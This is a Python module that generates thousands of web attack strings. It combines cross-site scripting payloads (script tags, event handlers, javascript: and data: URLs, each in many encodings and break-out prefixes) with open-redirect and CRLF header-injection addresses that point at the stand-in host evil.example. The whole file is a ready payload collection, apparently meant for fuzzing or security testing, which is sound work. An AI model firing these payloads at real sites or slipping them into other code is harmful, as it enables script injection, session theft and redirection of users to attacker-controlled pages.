"""Hostile strings by the thousand, made from parts: scripts in markup, and ways off a site."""

from html import escape
from itertools import product
from urllib.parse import quote

BREAKS_OUT = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", '" ', "' "]
TAGS = ["img src=x", "svg", "video src=x", "audio src=x", "body", "iframe", "input autofocus", "b"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"]
ELEMENTS = [
    "<script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/a/+alert(1)//>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'javascript:alert(1)'</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
WRITTEN = [
    str,
    str.upper,
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("<", "&lt"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
]


def scripts():
    """Markup that runs `alert` where it is not escaped: every way out × element × writing."""
    with_events = [f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS)]
    for before, element, written in product(BREAKS_OUT, [*ELEMENTS, *with_events], WRITTEN):
        yield before + written(element)


SLASHES = [
    "//",
    "\\\\",
    "/\\",
    "\\/",
    "///",
    "/\t/",
    "/\n/",
    "/%09/",
    "/%5c",
    "/%2f",
    "//;@",
    "/./",
    "/.//",
]
SCHEMES = [
    "",
    "https:",
    "http:",
    "HTTPS:",
    "https:/",
    "https:\\",
    "ht\ttps:",
    "\x01https:",
    " https:",
]
OUTSIDE = [
    "evil.example",
    "testserver@evil.example",
    "testserver.evil.example",
    "evil.example%2f.testserver",
    "evil.example%00.testserver",
    "evil.example\\.testserver",
    "evil.example#.testserver",
    "evil.example?testserver/",
    "evil。example",
    "ｅvil.example",
]
ALONE = [
    "javascript:alert(1)",
    "java%0d%0ascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "https://evil.example:443/",
    "https:evil.example",
    "%2f%2fevil.example",
    "/%0d%0aLocation:https://evil.example",
    "\r\nLocation: https://evil.example",
    "@evil.example",
    ".evil.example",
]


def ways_out():
    """Addresses of another site that pass for a path, by one reader or another."""
    for scheme, slashes, host in product(SCHEMES, SLASHES, OUTSIDE):
        yield f"{scheme}{slashes}{host}"
    yield from ALONE
